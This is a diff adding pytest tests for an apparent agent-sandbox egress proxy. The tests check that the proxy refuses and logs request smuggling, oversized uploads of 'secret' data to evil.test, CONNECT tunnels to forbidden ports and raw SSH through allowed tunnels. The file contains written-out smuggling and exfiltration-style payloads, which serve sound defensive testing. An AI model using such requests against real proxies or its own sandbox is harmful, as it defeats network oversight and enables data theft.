@@ -17,6 +17,9 @@ from loopback_http import LoopbackHTTP, LoopbackHTTPS, QuietHandler, leaf_for
 
 from runner.choices import NetMode
 from runner.network.proxy import EpisodeProxy, ProxyConfig, make_run_ca, proxy_env
+from runner.network.proxy_log import MAX_FIELD
+from runner.runs.episode_network import EpisodeNetwork
+from runner.sockets import free_port
 
 HUGE = 20 * 2**20  # past the proxy's body limit (16 MiB)
 
@@ -158,6 +161,8 @@ def test_a_name_that_resolves_to_loopback_is_refused_where_it_leads(mitmdump, ru
         answer = raw(p, b"GET http://localhost/ HTTP/1.1\r\nHost: localhost\r\n\r\n")
         assert answer.startswith(b"HTTP/1.1 502"), answer[:200]
         assert any("resolves to 127.0.0.1" in r or "resolves to ::1" in r for r in refusals(p)), p.entries()
+        (entry,) = p.entries()  # one line for the request, with its URL, and no error line beside it
+        assert (entry["verdict"], entry["stage"], entry["url"]) == ("refused", "address", "http://localhost/")
 
 
 def test_a_huge_request_or_response_is_refused_not_buffered(proxy, run_ca):
@@ -174,6 +179,127 @@ def test_a_huge_request_or_response_is_refused_not_buffered(proxy, run_ca):
     assert fetch(proxy, "http://plain.test/upload", run_ca, data=b"small")[0] == 200
     status, _body = fetch(proxy, "http://plain.test/huge", run_ca)
     assert status == 502
+
+
+POLICY_SAYS = "outside the allowed origins"
+SMUGGLED = b"0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+
+
+class HangsUp(bytes):
+    """Bytes the guest sends, then closes the connection without waiting for an answer."""
+
+
+def new_lines(proxy, before: int, timeout: float = 5.0) -> list[dict]:
+    """The lines after the first BEFORE, once there are some: a connection's last line may be
+    written as it closes."""
+    deadline = time.monotonic() + timeout
+    while len(proxy.entries()) == before and time.monotonic() < deadline:
+        time.sleep(0.05)
+    time.sleep(0.2)  # and nothing more for the same request
+    return proxy.entries()[before:]
+
+
+@pytest.mark.parametrize("sent, url, reasons", [
+    pytest.param(b"POST http://evil.test/upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\n\r\n" % HUGE
+                 + b"secret" * 1000, "http://evil.test/upload", ("body_size_limit", POLICY_SAYS),
+                 id="an oversized POST to a forbidden host"),
+    pytest.param(b"GARBAGE /\x00 HTTP/9\r\n\r\n", "", ("Bad HTTP request line",), id="a malformed request"),
+    pytest.param(b"POST http://plain.test/upload HTTP/1.1\r\nHost: plain.test\r\nContent-Length: %d\r\n"
+                 b"Transfer-Encoding: chunked\r\n\r\n" % len(SMUGGLED) + SMUGGLED, "http://plain.test/upload",
+                 ("transfer-encoding and content-length",), id="smuggling, to an allowed site"),
+    pytest.param(b"CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nContent-Length: 1\r\n"
+                 b"Transfer-Encoding: chunked\r\n\r\n", "evil.test:22", ("transfer-encoding", POLICY_SAYS),
+                 id="a CONNECT to a forbidden host and port, smuggling"),
+    pytest.param(b"CONNECT evil.test:99999 HTTP/1.1\r\nHost: evil.test:99999\r\n\r\n", "",
+                 ("CONNECT evil.test:99999",), id="a CONNECT to a port that is none"),
+    pytest.param(HangsUp(b"GET http://evil.test/?q=secret HTTP/1.1\r\nHost: ev"), "", ("before completing request headers",),
+                 id="a head that never ends"),
+    pytest.param(b"GET /?q=secret HTTP/1.1\r\n\r\n", "", ("made no request", "q=secret"), id="a request naming no host"),
+    pytest.param(b"POST http://plain.test/upload HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: chunked\r\n\r\n"
+                 b"zz\r\n", "http://plain.test/upload", ("illegal chunk header",), id="a body that is not chunked"),
+    pytest.param(b"CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test:80\r\n\r\nSSH-2.0-OpenSSH_9.6\r\n", "plain.test:80",
+                 ("b'SSH-2.0-OpenSSH_9.6",), id="raw TCP in an allowed tunnel"),
+])
+def test_what_the_proxy_refuses_before_its_rules_is_logged_as_the_agents(proxy, sent, url, reasons):
+    """mitmproxy itself refuses these before the rules see a request (413, 400, or no answer):
+    each is a `refused` line all the same, stage `read`, and so a violation in the agent's time."""
+    posted, before, since = Site.posted, len(proxy.entries()), time.monotonic()
+    try:
+        if isinstance(sent, HangsUp):
+            with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
+                s.sendall(sent)
+            answer = b""
+        else:
+            answer = raw(proxy, sent)
+    except ConnectionError:  # refused while the upload went on: a reset or a broken pipe
+        answer = b""
+    assert answer == b"" or answer.startswith((b"HTTP/1.1 4", b"HTTP/1.1 200 Connection established")), answer[:200]
+    (line,) = new_lines(proxy, before)
+    assert (line["verdict"], line.get("stage"), line["url"]) == ("refused", "read", url), line
+    assert all(r in line["reason"] for r in reasons), line
+    assert Site.posted == posted, "it reached the site"
+    (violation,) = EpisodeNetwork(proxy).violations(since, time.monotonic())
+    assert violation.rule == "network" and violation.detail.startswith(f"refused as sent: {url or '(no URL)'} (")
+    assert EpisodeNetwork(proxy).violations(time.monotonic(), float("inf")) == [], "outside the window, no violation"
+
+
+def test_a_body_the_guest_cuts_off_is_the_agents_only_to_a_host_not_allowed(proxy):
+    """An upload cancelled, or its process stopped at the end of the agent's time, is counted; only
+    one to a host the rules refuse is a violation."""
+    since = time.monotonic()
+    for host in (b"plain.test", b"evil.test"):
+        before = len(proxy.entries())
+        with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
+            s.sendall(b"POST http://" + host + b"/upload HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 100\r\n\r\n"
+                      + b"x" * 10)
+        (line,) = new_lines(proxy, before)
+        assert (line["stage"], line["url"]) == ("read", f"http://{host.decode()}/upload") and "peer closed" in line["reason"]
+        assert line["verdict"] == ("error" if host == b"plain.test" else "refused"), line
+    (violation,) = EpisodeNetwork(proxy).violations(since, time.monotonic())
+    assert violation.detail.startswith("refused as sent: http://evil.test/upload (")
+
+
+def test_an_allowed_site_that_is_down_is_counted_and_is_not_the_agents(mitmdump, run_ca, tmp_path):
+    with EpisodeProxy(mitmdump, run_ca, tmp_path, ProxyConfig(
+            allow=("http://down.test", "http://nowhere.invalid"), mapped={"down.test": ("127.0.0.1", free_port())})) as p:
+        since = time.monotonic()
+        for name in (b"down.test", b"nowhere.invalid"):  # nothing listens; the name does not resolve
+            answer = raw(p, b"GET http://" + name + b"/page HTTP/1.1\r\nHost: " + name + b"\r\n\r\n")
+            assert answer.startswith(b"HTTP/1.1 502"), answer[:200]
+        lines = new_lines(p, 0)
+        assert [(e["verdict"], e["stage"], e["url"]) for e in lines] == [
+            ("error", "upstream", "http://down.test/page"), ("error", "upstream", "http://nowhere.invalid/page")], lines
+        assert "does not resolve" in lines[1]["reason"]
+        assert EpisodeNetwork(p).violations(since, time.monotonic()) == []
+
+
+def test_a_tls_handshake_the_client_gives_up_is_the_agents_only_for_a_name_outside(proxy, run_ca):
+    """Inside a tunnel to an allowed origin, a client that does not trust the proxy's certificate
+    gives up: for an allowed name that is no violation (nothing was asked), for another it is."""
+    since = time.monotonic()
+    for name in ("evil.test", "example.test"):
+        before = len(proxy.entries())
+        with socket.create_connection(("127.0.0.1", proxy.port), timeout=30) as s:
+            s.sendall(b"CONNECT example.test:443 HTTP/1.1\r\nHost: example.test:443\r\n\r\n")
+            assert s.recv(4096).startswith(b"HTTP/1.1 200")
+            with pytest.raises(ssl.SSLCertVerificationError):
+                ssl.create_default_context().wrap_socket(s, server_hostname=name)  # not the run's CA
+        (line,) = new_lines(proxy, before)
+        assert (line["stage"], line["url"]) == ("tls", f"{name}:443") and "does not trust" in line["reason"], line
+        assert line["verdict"] == ("refused" if name == "evil.test" else "error"), line
+    (violation,) = EpisodeNetwork(proxy).violations(since, time.monotonic())
+    assert violation.detail.startswith("outside the allowed origins: evil.test:443 (TLS: ")
+
+
+def test_what_the_guest_writes_is_cut_in_the_log(proxy):
+    """A URL of 100 kB and a Host header of 50 kB (in the reason) make a line of a few kB."""
+    before = len(proxy.entries())
+    sent = b"GET http://plain.test/" + b"u" * 100_000 + b" HTTP/1.1\r\nHost: " + b"h" * 50_000 + b"\r\n\r\n"
+    assert raw(proxy, sent).startswith(b"HTTP/1.1 403")
+    (line,) = new_lines(proxy, before)
+    assert line["url"].startswith("http://hhhh") and line["url"].endswith("[cut from 150008 characters]")  # pretty_url
+    assert line["reason"].startswith("the Host header") and "[cut from" in line["reason"]
+    assert len(proxy.log.read_text().split("\n")[before]) < 3 * MAX_FIELD
 
 
 def test_record_then_replay_gives_the_same_bytes_and_never_goes_out(mitmdump, run_ca, internet, tmp_path):
